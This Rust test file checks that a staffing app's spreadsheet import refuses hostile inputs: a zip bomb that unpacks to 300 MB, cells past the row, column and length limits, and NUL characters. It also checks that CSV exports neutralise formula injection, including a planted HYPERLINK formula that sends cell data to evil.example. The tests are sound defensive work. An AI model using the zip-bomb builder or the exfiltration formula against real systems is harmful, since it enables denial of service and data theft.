//! Spreadsheets as an attacker makes them: workbooks that unpack to
//! hundreds of megabytes, a cell far beyond any real sheet, rows and cells
//! past the configured bounds, NUL in a cell; and exports whose cells would
//! run as formulas in Excel. Each is refused with a problem that names the
//! bound or the cell, memory stays small, nothing is written; an export
//! neutralises formulas and reads back to what was exported.

use std::io::Write;

use serde_json::json;

use crate::staffing::{apply, seed_plan, seed_pool, staff};
use crate::support::{create_instructor, Backend, TestApp, TestDb, SECRET};

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A workbook of one sheet whose `sheetData` is `rows` (written by
/// `write_rows`, so it can stream hundreds of megabytes), with optional
/// shared strings.
fn workbook(write_rows: impl FnOnce(&mut dyn Write), shared: Option<&str>) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    let mut part = |name: &str, text: &str| {
        zip.start_file(name, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    };
    part(
        "[Content_Types].xml",
        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"#,
    );
    part(
        "_rels/.rels",
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
    );
    part(
        "xl/workbook.xml",
        r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="师资库" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
    );
    let shared_rel = if shared.is_some() {
        r#"<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>"#
    } else {
        ""
    };
    part(
        "xl/_rels/workbook.xml.rels",
        &format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>{shared_rel}</Relationships>"#
        ),
    );
    if let Some(strings) = shared {
        part(
            "xl/sharedStrings.xml",
            &format!(
                r#"<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>{strings}</t></si></sst>"#
            ),
        );
    }
    zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
    zip.write_all(
        br#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#,
    )
    .unwrap();
    write_rows(&mut zip);
    zip.write_all(b"</sheetData></worksheet>").unwrap();
    zip.finish().unwrap().into_inner()
}

/// A row of inline-string cells at `row`, from column A.
fn inline_row(row: usize, cells: &[&str]) -> String {
    let cells: String = cells
        .iter()
        .enumerate()
        .map(|(k, text)| {
            let column = (b'A' + k as u8) as char;
            format!(r#"<c r="{column}{row}" t="inlineStr"><is><t>{text}</t></is></c>"#)
        })
        .collect();
    format!(r#"<row r="{row}">{cells}</row>"#)
}

const HEADER: [&str; 6] = ["姓名", "类别", "城市", "纬度", "经度", "年度课时上限"];

/// The server's peak resident memory so far, in MiB (Linux `VmHWM`).
fn peak_mib(app: &TestApp) -> f64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", app.pid())).unwrap();
    let kib: f64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    kib / 1024.0
}

fn instructors(app: &TestApp) -> i64 {
    app.db().count("SELECT count(*) AS count FROM instructors")
}

/// A workbook whose sheet unpacks to 300 MB (spaces between the rows,
/// about 300 KB packed) is refused with a 413 that names the bound, on the
/// pool's and a plan's import, without the server's memory growing by it.
fn workbooks_that_unpack_too_far_are_refused(backend: Backend) {
    let app = TestApp::start(backend);
    let planner = app.client("planner", None);
    let (plan, _, _) = seed_plan(&planner);
    let bomb = workbook(
        |out| {
            out.write_all(inline_row(1, &HEADER).as_bytes()).unwrap();
            let spaces = vec![b' '; 1 << 20];
            for _ in 0..300 {
                out.write_all(&spaces).unwrap();
            }
            let row = inline_row(2, &["李明", "信访干部", "武汉", "30.5", "114.3", "8"]);
            out.write_all(row.as_bytes()).unwrap();
        },
        None,
    );
    assert!(
        bomb.len() < 2 << 20,
        "the bomb is {} bytes packed",
        bomb.len()
    );
    for path in [
        "/api/v1/pool/import?dry_run=true".to_owned(),
        "/api/v1/pool/import".to_owned(),
        format!("/api/v1/plans/{plan}/import"),
    ] {
        let (status, problem) = planner.upload(&path, XLSX, bomb.clone());
        assert_eq!(status, 413, "{path}: {problem}");
        assert_eq!(problem["type"], "/problems/payload-too-large");
        let detail = problem["detail"].as_str().unwrap();
        assert!(
            detail.contains("IMPORT_MAX_UNPACKED_BYTES"),
            "{path}: {detail}"
        );
    }
    assert_eq!(instructors(&app), 0);
    let peak = peak_mib(&app);
    assert!(peak < 250.0, "the server peaked at {peak:.0} MiB");
}

/// Rows, columns, cell length and time, each past a bound the server was
/// started with, are each refused with a 422 that names the bound (the
/// cell's, for a cell too long), in CSV and in XLSX; nothing is written.
fn sheets_past_their_bounds_are_refused(backend: Backend) {
    let db = TestDb::new(backend);
    let app = TestApp::start_on(
        db,
        &[
            ("JWT_SECRET", SECRET),
            ("IMPORT_MAX_ROWS", "100"),
            ("IMPORT_MAX_COLUMNS", "30"),
            ("IMPORT_MAX_CELL_CHARS", "50"),
        ],
    );
    let planner = app.client("planner", None);
    let csv_row = "李明,信访干部,武汉,30.5,114.3,8\n";
    let refused = |content_type: &str, body: Vec<u8>| -> Vec<(String, String, String)> {
        let (status, problem) =
            planner.upload("/api/v1/pool/import?dry_run=true", content_type, body);
        assert_eq!(status, 422, "{problem}");
        problem["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                let text = |k: &str| e[k].as_str().unwrap().to_owned();
                (text("field"), text("rule"), text("detail"))
            })
            .collect()
    };
    let header = format!("{}\n", HEADER.join(","));
    let many = format!("{header}{}", csv_row.repeat(150));
    let found = refused("text/csv", many.into_bytes());
    assert_eq!(
        (found[0].0.as_str(), found[0].1.as_str()),
        ("file", "max_rows")
    );
    assert!(found[0].2.contains("IMPORT_MAX_ROWS"), "{found:?}");
    let wide = format!("{header}{}{}\n", csv_row.trim_end(), ",x".repeat(40));
    let found = refused("text/csv", wide.into_bytes());
    assert_eq!(found[0].1, "max_columns", "{found:?}");
    let long = format!("{header}{}{csv_row}", "长".repeat(60));
    let found = refused("text/csv", long.into_bytes());
    assert_eq!(
        (found[0].0.as_str(), found[0].1.as_str()),
        ("rows[2]", "max_length")
    );
    assert!(found[0].2.starts_with("A2: "), "{found:?}");
    // One cell at the sheet's last row and column: its range alone would be
    // seventeen billion cells.
    let far = workbook(
        |out| {
            out.write_all(inline_row(1, &HEADER).as_bytes()).unwrap();
            out.write_all(
                br#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>"#,
            )
            .unwrap();
        },
        None,
    );
    assert_eq!(refused(XLSX, far)[0].1, "max_rows");
    // A shared string longer than a cell may be.
    let shared = workbook(
        |out| {
            out.write_all(inline_row(1, &HEADER).as_bytes()).unwrap();
            out.write_all(br#"<row r="2"><c r="A2" t="s"><v>0</v></c></row>"#)
                .unwrap();
        },
        Some(&"长".repeat(5_000)),
    );
    let found = refused(XLSX, shared);
    assert_eq!(
        (found[0].0.as_str(), found[0].1.as_str()),
        ("rows[2]", "max_length")
    );
    assert_eq!(instructors(&app), 0);
    drop(app);

    // A sheet that takes longer to read than allowed.
    let app = TestApp::start_on(
        TestDb::new(backend),
        &[("JWT_SECRET", SECRET), ("IMPORT_MAX_SECONDS", "0.000001")],
    );
    let planner = app.client("planner", None);
    let slow = format!("{header}{}", csv_row.repeat(20_000));
    let (status, problem) = planner.upload("/api/v1/pool/import", "text/csv", slow.into());
    assert_eq!(status, 422, "{problem}");
    assert_eq!(problem["errors"][0]["rule"], "max_seconds");
    assert!(problem["errors"][0]["detail"]
        .as_str()
        .unwrap()
        .contains("IMPORT_MAX_SECONDS"));
    assert_eq!(instructors(&app), 0);
}

/// A NUL in a cell, typed into a CSV or written as XLSX's `_x0000_`, is a
/// 422 at its cell on both backends, dry run or not, for the pool and for
/// a plan; nothing is stored.
fn control_characters_in_cells_are_refused(backend: Backend) {
    let app = TestApp::start(backend);
    let planner = app.client("planner", None);
    let (plan, _, _) = seed_plan(&planner);
    let pool_csv = format!(
        "{}\n李\u{0}明,信访干部,武汉,30.5,114.3,8\n王芳,专家,武\u{1}汉,30.5,114.3,8\n",
        HEADER.join(",")
    );
    let pool_xlsx = workbook(
        |out| {
            out.write_all(inline_row(1, &HEADER).as_bytes()).unwrap();
            let row = inline_row(2, &["a_x0000_b", "信访干部", "武汉", "30.5", "114.3", "8"]);
            out.write_all(row.as_bytes()).unwrap();
        },
        None,
    );
    for query in ["?dry_run=true", ""] {
        let path = format!("/api/v1/pool/import{query}");
        let (status, problem) = planner.upload(&path, "text/csv", pool_csv.clone().into());
        assert_eq!(status, 422, "{problem}");
        let fields: Vec<(&str, &str)> = problem["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| (e["field"].as_str().unwrap(), e["rule"].as_str().unwrap()))
            .collect();
        assert_eq!(
            fields,
            [
                ("rows[2].name", "control_character"),
                ("rows[3].city", "control_character")
            ]
        );
        assert!(problem["errors"][0]["detail"]
            .as_str()
            .unwrap()
            .starts_with("A2 姓名: "));
        let (status, problem) = planner.upload(&path, XLSX, pool_xlsx.clone());
        assert_eq!(status, 422, "{problem}");
        assert_eq!(problem["errors"][0]["field"], "rows[2].name");
        assert_eq!(problem["errors"][0]["rule"], "control_character");
    }
    assert_eq!(instructors(&app), 0);

    let plan_csv = "班次名称,城市,纬度,经度,课程名称,日期,时间,专题\n\
                    信访\u{0}班,武汉,30.59,114.30,办信实务,2027-05-10,上午,办信:3\n";
    for query in ["?dry_run=true", ""] {
        let path = format!("/api/v1/plans/{plan}/import{query}");
        let (status, problem) = planner.upload(&path, "text/csv", plan_csv.into());
        assert_eq!(status, 422, "{problem}");
        assert_eq!(problem["errors"][0]["field"], "rows[2].class");
        assert_eq!(problem["errors"][0]["rule"], "control_character");
    }
    assert_eq!(app.db().count("SELECT count(*) AS count FROM classes"), 1);
}

/// Whether a CSV cell would run as a formula in Excel or WPS.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The cells of a CSV download (after its byte order mark).
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes)
        .unwrap()
        .trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Formulas planted in names, titles and an instructor's own e-mail come
/// out of every CSV export as text (a leading `'`), and the pool's export
/// imported again changes nothing: the text read back is what was stored.
fn exports_neutralise_formulas(backend: Backend) {
    let app = TestApp::start(backend);
    let planner = app.client("planner", None);
    seed_pool(&planner);
    let planted = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击")@x.cn"#;
    let id = create_instructor(&planner, "@SUM(1+1)", json!({"phone": "+86 27 8888 6666"}));
    let instructor = app.client("instructor", Some(&id));
    let me = instructor.get("/api/v1/me").body;
    let version = format!("\"{}\"", me["instructor"]["version"]);
    let r = instructor.put(
        "/api/v1/me/contact",
        &json!({"email": planted, "phone": "+86 27 8888 6666"}),
        Some(&version),
    );
    assert_eq!(r.status, 200, "{}", r.body);

    let pool = planner.download("/api/v1/pool/export?format=csv");
    let pool = pool.bytes().unwrap().to_vec();
    let cells = csv_cells(&pool);
    assert!(cells.iter().flatten().all(|c| !is_formula(c)), "{cells:?}");
    let row = cells.iter().find(|r| r.contains(&"'@SUM(1+1)".to_owned()));
    let row = row.unwrap_or_else(|| panic!("no neutralised name in {cells:?}"));
    assert!(row.contains(&format!("'{planted}")), "{row:?}");
    assert!(row.contains(&"'+86 27 8888 6666".to_owned()), "{row:?}");
    let (status, report) = planner.upload("/api/v1/pool/import", "text/csv", pool);
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["updated"], 0, "{report}");
    assert_eq!(report["created"], 0, "{report}");
    let stored = planner.get(&format!("/api/v1/instructors/{id}")).body;
    assert_eq!(stored["email"], planted);
    assert_eq!(stored["name"], "@SUM(1+1)");

    // The staffed plan's sheet: a class and a session named as formulas.
    let (plan, class, _) = seed_plan(&planner);
    let r = planner.put(
        &format!("/api/v1/classes/{class}"),
        &json!({"name": "-1+2 专题班", "kind": "specialised", "city": "+武汉", "lat": 30.59,
                "lon": 114.30, "start_date": "2027-03-08", "end_date": "2027-03-10"}),
        None,
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let run = staff(&planner, &plan, json!({}));
    assert_eq!(apply(&planner, &run).status, 200);
    let sheet = planner.download(&format!("/api/v1/plans/{plan}/export?format=csv"));
    let cells = csv_cells(&sheet.bytes().unwrap());
    assert!(cells.iter().flatten().all(|c| !is_formula(c)), "{cells:?}");
    assert!(
        cells.iter().flatten().any(|c| c == "'-1+2 专题班"),
        "{cells:?}"
    );
    let quality = planner.download(&format!("/api/v1/plans/{plan}/quality/export?format=csv"));
    let cells = csv_cells(&quality.bytes().unwrap());
    assert!(cells.iter().flatten().all(|c| !is_formula(c)), "{cells:?}");
}

crate::both_backends!(
    workbooks_that_unpack_too_far_are_refused,
    sheets_past_their_bounds_are_refused,
    control_characters_in_cells_are_refused,
    exports_neutralise_formulas,
);
